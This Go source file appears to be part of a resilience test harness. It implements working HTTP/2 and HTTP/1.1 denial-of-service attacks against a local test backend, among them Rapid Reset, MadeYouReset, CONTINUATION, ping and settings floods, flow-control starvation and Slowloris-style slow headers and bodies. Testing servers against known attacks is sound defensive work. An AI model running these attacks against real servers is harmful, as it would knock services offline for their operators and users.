package main

import (
	"fmt"
	"time"

	"golang.org/x/net/http2"
)

// Of the backend of server.go: one that takes its time, one that is large, and one without an end.
const (
	slowPath   = groupPath + "/slow?ms=20000"
	largePath  = groupPath + "/large?bytes=8388608"
	floodsPath = groupPath + "/namespaces/default/pods?watch=true&floods=true"
)

// rapidReset is CVE-2023-44487.
func (a *attacker) rapidReset() error {
	if err := a.begin(); err != nil {
		return err
	}
	return a.flood(a.resetOne)
}

func (a *attacker) resetOne(int) {
	_ = a.framer.WriteRSTStream(a.request("GET", slowPath, true), http2.ErrCodeCancel)
}

// pacedReset is the same with pauses, so that each request is let in before it is reset.
func (a *attacker) pacedReset() error {
	if err := a.begin(); err != nil {
		return err
	}
	for {
		if err := a.write(func() { a.resetOne(0) }); err != nil {
			return err
		}
		select {
		case <-a.over:
			return nil
		case <-time.After(pacePeriod):
		}
	}
}

// madeYouReset is CVE-2025-8671: what is wrong with each stream, a window that overflows, has the server reset it.
func (a *attacker) madeYouReset() error {
	if err := a.begin(); err != nil {
		return err
	}
	return a.flood(func(int) { _ = a.framer.WriteWindowUpdate(a.request("GET", slowPath, true), 1<<31-1) })
}

// continuations are CVE-2024-27316 and its kin.
func (a *attacker) continuations() error {
	if err := a.begin(); err != nil {
		return err
	}
	err := a.write(func() {
		_ = a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.head("GET", slowPath)})
	})
	if err != nil {
		return err
	}
	// A literal field that is not indexed: a: b.
	block := []byte{0x00, 0x01, 'a', 0x01, 'b'}
	return a.flood(func(int) {
		_ = a.framer.WriteContinuation(1, false, block)
		a.sent.Add(1)
	})
}

// pings are CVE-2019-9512.
func (a *attacker) pings() error {
	if err := a.begin(); err != nil {
		return err
	}
	return a.flood(func(int) {
		_ = a.framer.WritePing(false, [8]byte{1})
		a.sent.Add(1)
	})
}

// settings are CVE-2019-9515, made dear: each changes the windows of all streams.
func (a *attacker) settings() error {
	if err := a.begin(); err != nil {
		return err
	}
	err := a.write(func() {
		for range attackStreams {
			a.request("GET", slowPath, true)
		}
	})
	if err != nil {
		return err
	}
	return a.flood(func(number int) {
		_ = a.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(1 + number%2)})
		a.sent.Add(1)
	})
}

// emptyData is CVE-2019-9518.
func (a *attacker) emptyData() error {
	if err := a.begin(); err != nil {
		return err
	}
	stream := uint32(0)
	if err := a.write(func() { stream = a.request("POST", slowPath, false) }); err != nil {
		return err
	}
	return a.flood(func(int) {
		_ = a.framer.WriteData(stream, false, nil)
		a.sent.Add(1)
	})
}

// tinyWindows are CVE-2019-9511: each byte of large answers has to be sent for itself.
func (a *attacker) tinyWindows() error {
	a.window = 1
	if err := a.openMany(largePath); err != nil {
		return err
	}
	return a.flood(func(number int) {
		_ = a.framer.WriteWindowUpdate(uint32(1+2*(number%attackStreams)), 1)
		if number%attackStreams == 0 {
			_ = a.framer.WriteWindowUpdate(0, attackStreams)
		}
		a.sent.Add(1)
	})
}

func (a *attacker) openMany(path string) error {
	if err := a.begin(); err != nil {
		return err
	}
	return a.write(func() {
		for range attackStreams {
			a.request("GET", path, true)
		}
	})
}

// noWindows reads whatever comes, answers pings, and never makes room for more.
func (a *attacker) noWindows() error {
	if err := a.openMany(largePath); err != nil {
		return err
	}
	<-a.over
	return nil
}

func (a *attacker) noWindowsForWatches() error {
	if err := a.openMany(floodsPath); err != nil {
		return err
	}
	<-a.over
	return nil
}

// noReading makes room for everything and takes nothing from the socket (CVE-2019-9517).
func (a *attacker) noReading() error {
	a.unread, a.window = true, 1<<30
	if err := a.openMany(largePath); err != nil {
		return err
	}
	if err := a.write(func() { _ = a.framer.WriteWindowUpdate(0, 1<<30) }); err != nil {
		return err
	}
	return a.untilGone()
}

// untilGone is over when the other end has closed.
func (a *attacker) untilGone() error {
	for {
		time.Sleep(dripPeriod)
		if isGone(a.plain) {
			a.ended("closed")
			return nil
		}
	}
}

func (a *attacker) noReading1() error {
	if _, err := fmt.Fprintf(a.conn, "GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n", largePath); err != nil {
		return err
	}
	a.sent.Add(1)
	return a.untilGone()
}

// slowHeaders begins a head whose next byte is always still to come.
func (a *attacker) slowHeaders() error {
	if err := a.begin(); err != nil {
		return err
	}
	// The head of a HEADERS frame of 16 KiB.
	if err := a.write(func() { _, _ = a.writer.Write([]byte{0, 0x40, 0, 1, 4, 0, 0, 0, 1}) }); err != nil {
		return err
	}
	return a.drip(func() []byte { return []byte{0} })
}

func (a *attacker) slowHeaders1() error {
	go a.read1()
	if _, err := fmt.Fprint(a.conn, "GET /version HTTP/1.1\r\nHost: localhost\r\nX-Slow: "); err != nil {
		return err
	}
	return a.drip(func() []byte { return []byte("x") })
}

// slowBody has a body whose next byte is always still to come.
func (a *attacker) slowBody() error {
	if err := a.begin(); err != nil {
		return err
	}
	if err := a.write(func() { a.request("POST", groupPath+"/sink", false) }); err != nil {
		return err
	}
	return a.drip(func() []byte { return []byte{0, 0, 1, 0, 0, 0, 0, 0, 1, 'x'} })
}

func (a *attacker) slowBody1() error {
	go a.read1()
	if _, err := fmt.Fprintf(a.conn, "POST %s/sink HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n", groupPath); err != nil {
		return err
	}
	return a.drip(func() []byte { return []byte("x") })
}

// idle says nothing at all.
func (a *attacker) idle() error {
	if a.protocol == "h2" {
		if err := a.begin(); err != nil {
			return err
		}
	} else {
		go a.read1()
	}
	<-a.over
	return nil
}

// vanish is a peer whose machine is gone: it has requests open, and nothing comes from it any more.
func (a *attacker) vanish() error {
	if err := a.openMany(floodsPath); err != nil {
		return err
	}
	return a.dropAll()
}

func (a *attacker) vanish1() error {
	go a.read1()
	if _, err := fmt.Fprintf(a.conn, "GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n", floodsPath); err != nil {
		return err
	}
	return a.dropAll()
}

func (a *attacker) dropAll() error {
	a.sent.Add(1)
	time.Sleep(dripPeriod)
	drop(a.plain)
	<-a.over
	return nil
}
